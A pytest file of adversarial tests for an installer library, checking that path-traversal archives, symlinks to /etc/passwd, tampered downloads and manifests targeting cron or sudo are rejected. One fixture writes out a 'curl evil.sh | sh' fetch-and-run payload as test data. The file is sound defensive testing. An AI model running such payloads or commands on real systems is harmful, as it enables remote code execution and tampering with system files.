"""Adversarial tests: hostile archives, tampered downloads and forged manifests."""

from __future__ import annotations

import io
import json
import tarfile

import pytest

from conftest import make_tarball, make_zip, sha256_of
from verinstall.core.errors import (
    DigestMismatchError,
    FilesystemError,
    InvalidTransitionError,
    ParseError,
)
from verinstall.core.installer import extract_archive
from verinstall.core.manifest_loader import loads_all
from verinstall.core.manifest_store import ManifestStore
from verinstall.core.pipeline import InstallPipeline
from verinstall.core.state_machine import InstallStateMachine
from verinstall.models.pipeline import PipelineState


def _symlink_tarball(target: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        info = tarfile.TarInfo("voiceterm")
        info.type = tarfile.SYMTYPE
        info.linkname = target
        tar.addfile(info)
    return buf.getvalue()


class TestHostileArchives:
    @pytest.mark.parametrize("member", ["../evil", "bin/../../evil", "/tmp/verinstall-evil"])
    def test_tar_member_escaping_destination(self, tmp_path, member):
        archive = tmp_path / "a.tar.gz"
        archive.write_bytes(make_tarball({member: b"pwned"}))
        out = tmp_path / "stage" / "inner"
        out.mkdir(parents=True)

        with pytest.raises(FilesystemError, match="unsafe member"):
            extract_archive(archive, out)

        assert not (tmp_path / "stage" / "evil").exists()
        assert list(out.iterdir()) == []

    def test_zip_member_escaping_destination(self, tmp_path):
        archive = tmp_path / "a.zip"
        archive.write_bytes(make_zip({"../evil": b"pwned"}))
        out = tmp_path / "out"
        out.mkdir()

        with pytest.raises(FilesystemError, match="unsafe member"):
            extract_archive(archive, out)
        assert not (tmp_path / "evil").exists()

    def test_symlink_outside_destination_rejected(self, tmp_path):
        archive = tmp_path / "a.tar.gz"
        archive.write_bytes(_symlink_tarball("/etc/passwd"))
        out = tmp_path / "out"
        out.mkdir()

        with pytest.raises(FilesystemError):
            extract_archive(archive, out)
        assert not (out / "voiceterm").is_symlink()

    def test_non_archive_with_valid_digest(self, tmp_path, settings, make_manifest):
        # The digest matches, but the artifact is not the archive its URL claims.
        payload = b"<html>mirror maintenance page</html>"
        source = tmp_path / "voiceterm.tar.gz"
        source.write_bytes(payload)
        manifest = make_manifest(url=source.as_uri(), sha256=sha256_of(payload))

        with pytest.raises(FilesystemError) as exc_info:
            InstallPipeline(settings).run(manifest)

        assert exc_info.value.report.failed_stage == "install"
        assert not (settings.prefix / "bin" / "voiceterm").exists()

    def test_traversal_archive_with_valid_digest(self, tmp_path, settings, make_manifest):
        payload = make_tarball({"../../voiceterm": b"pwned"})
        source = tmp_path / "voiceterm.tar.gz"
        source.write_bytes(payload)
        manifest = make_manifest(url=source.as_uri(), sha256=sha256_of(payload))

        with pytest.raises(FilesystemError):
            InstallPipeline(settings).run(manifest)

        assert not (tmp_path / "voiceterm").exists()
        assert list(settings.tmp_dir.iterdir()) == []


class TestTamperedDownloads:
    def test_swapped_artifact_never_installed(self, artifact_server, settings, make_manifest):
        genuine = b"#!/bin/sh\necho genuine\n"
        artifact_server.routes["/voiceterm"] = b"#!/bin/sh\ncurl evil.sh | sh\n"
        manifest = make_manifest(url=artifact_server.url("/voiceterm"), sha256=sha256_of(genuine))

        with pytest.raises(DigestMismatchError):
            InstallPipeline(settings).run(manifest)

        assert not (settings.prefix / "bin" / "voiceterm").exists()

    def test_digest_only_differs_in_case(self, artifact_server, settings, make_manifest):
        body = b"#!/bin/sh\necho ok\n"
        artifact_server.routes["/voiceterm"] = body
        manifest = make_manifest(
            url=artifact_server.url("/voiceterm"), sha256=sha256_of(body).upper()
        )
        assert InstallPipeline(settings).run(manifest).succeeded


class TestForgedManifests:
    def test_republished_version_with_new_digest(self):
        records = [
            {"name": "voiceterm", "url": "https://example.com/v0.1.5/voiceterm", "sha256": "a" * 64, "version": "0.1.5"},
            {"name": "voiceterm", "url": "https://example.com/v0.1.5/voiceterm", "sha256": "b" * 64, "version": "0.1.5"},
        ]
        with pytest.raises(ParseError, match="Conflicting digests"):
            ManifestStore(loads_all(json.dumps(records)))

    @pytest.mark.parametrize("rule", ["../../etc/cron.d/job", "/usr/bin/sudo"])
    def test_install_rule_cannot_escape_prefix(self, rule):
        record = {
            "name": "voiceterm",
            "url": "https://example.com/v1/voiceterm.tar.gz",
            "sha256": "a" * 64,
            "version": "1",
            "install_rule": rule,
        }
        with pytest.raises(ParseError, match="source_relative_path"):
            loads_all(json.dumps(record))

    def test_unknown_install_directive_ignored(self):
        text = (
            "class Voiceterm < Formula\n"
            '  url "https://example.com/v1/voiceterm"\n'
            f'  sha256 "{"a" * 64}"\n'
            '  version "1.0"\n'
            "  def install\n"
            '    etc.install "voiceterm"\n'
            "  end\n"
            "end\n"
        )
        [manifest] = loads_all(text)
        # Unknown directives are ignored; the default rule targets bin.
        assert manifest.install_rule.dest_kind.value == "bin"

    def test_cannot_jump_to_installing(self):
        machine = InstallStateMachine()
        with pytest.raises(InvalidTransitionError):
            machine.transition(PipelineState.INSTALLING)
        machine.transition(PipelineState.FETCHING)
        with pytest.raises(InvalidTransitionError):
            machine.transition(PipelineState.DONE)
